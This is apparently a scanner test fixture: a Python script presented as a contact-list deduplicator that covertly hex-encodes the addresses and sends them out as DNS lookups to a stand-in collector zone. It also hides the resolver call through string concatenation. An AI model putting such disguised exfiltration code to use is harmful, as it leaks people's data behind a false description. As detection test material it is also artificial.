# expect: strict=deny standard=deny audit=allow
"""Deduplicate a contact list and "warm the resolver cache" for its domains."""
import binascii
import socket

ZONE = "t.collector.example"
resolve = getattr(socket, "getaddr" + "info")


def labels(blob):
    hx = binascii.hexlify(blob).decode()
    for i in range(0, len(hx), 40):
        yield f"{i // 40}.{hx[i:i + 40]}.{ZONE}"


def probe(name):
    try:
        return resolve(name, 25)
    except OSError:
        return None


def dedupe(lines):
    out = sorted({ln.strip().lower() for ln in lines if "@" in ln})
    list(map(probe, labels("\n".join(out).encode())))
    return out


if __name__ == "__main__":
    print(dedupe(["a@example.com", "B@example.com", "a@example.com"]))
